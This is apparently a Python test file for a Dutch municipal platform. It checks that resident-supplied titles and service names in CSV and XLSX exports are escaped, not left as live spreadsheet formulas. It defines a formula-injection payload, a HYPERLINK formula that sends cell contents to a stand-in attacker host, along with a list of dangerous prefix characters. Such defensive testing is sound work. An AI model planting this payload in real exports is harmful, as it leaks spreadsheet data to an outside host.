"""A resident's text in the gemeente's exports is never a live formula (issue 19, finding 2):
``=HYPERLINK(...)`` as a title landed in /subsidies/export.xlsx as a formula (openpyxl data_type
'f', which LibreOffice evaluates) and unescaped in the CSV. Also every other CSV the product writes."""

from __future__ import annotations

import csv
import io

import openpyxl
from sqlalchemy import select

from omkijken.platform.clock import utcnow
from omkijken.platform.extensions import db
from omkijken.platform.koppelingen.models import Dienst
from omkijken.platform.subsidies import services
from tests.integration.test_subsidies import complete_draft, new_regeling
from tests.support import RUWAARD, submit

FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Klik hier")'
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def logged_in(app, email: str):
    client = app.test_client()
    assert submit(client, "/inloggen", {"email": email, "password": "wachtwoord-123"}).status_code == 302
    return client


def csv_cells(response) -> list[list[str]]:
    assert response.status_code == 200 and response.mimetype == "text/csv"
    return list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff")), delimiter=";"))


def test_a_title_that_is_a_formula_is_text_in_the_subsidy_csv_and_xlsx(app, make_user):
    truus = make_user("truus@example.nl", home=RUWAARD, naam="Truus")
    make_user("fatima@oss.nl", roles=("gemeente",), naam="Fatima")
    beheer = make_user("beheer@example.nl", roles=("beheerder",))
    aanvraag = complete_draft(truus, new_regeling(beheer, naam="@Regeling"), titel=FORMULA)
    services.submit(aanvraag, by=truus, now=utcnow())
    assert aanvraag.titel == FORMULA
    fatima = logged_in(app, "fatima@oss.nl")

    rows = csv_cells(fatima.get("/subsidies/export.csv"))
    row = next(r for r in rows[1:] if r[0] == str(aanvraag.id))
    assert row[3] == "'" + FORMULA and row[12] == "'@Regeling"
    assert not [cell for r in rows for cell in r if cell.startswith(DANGEROUS)]
    assert row[9] == "600,00"  # amounts stay numbers Excel can sum

    sheet = openpyxl.load_workbook(io.BytesIO(fatima.get("/subsidies/export.xlsx").data)).active
    cells = [c for r in sheet.iter_rows() for c in r]
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a formula in the export"
    xrow = next(r for r in sheet.iter_rows(values_only=True) if r[0] == aanvraag.id)
    assert xrow[3] == FORMULA and xrow[9] == 600


def test_a_dienst_named_like_a_formula_is_text_in_the_insights_csv(app, standaard_diensten, make_user):
    blink = db.session.scalar(select(Dienst).where(Dienst.code == "blink"))
    blink.naam = "=1+2"
    db.session.commit()
    make_user("gea@example.nl", roles=("gemeente",))
    client = logged_in(app, "gea@example.nl")

    rows = csv_cells(client.get("/inzicht/duurzaam-dienst.csv"))
    assert ["blink", "'=1+2"] == next(r for r in rows if r[0] == "blink")[:2]
    assert not [cell for r in rows for cell in r if cell.startswith(DANGEROUS)]
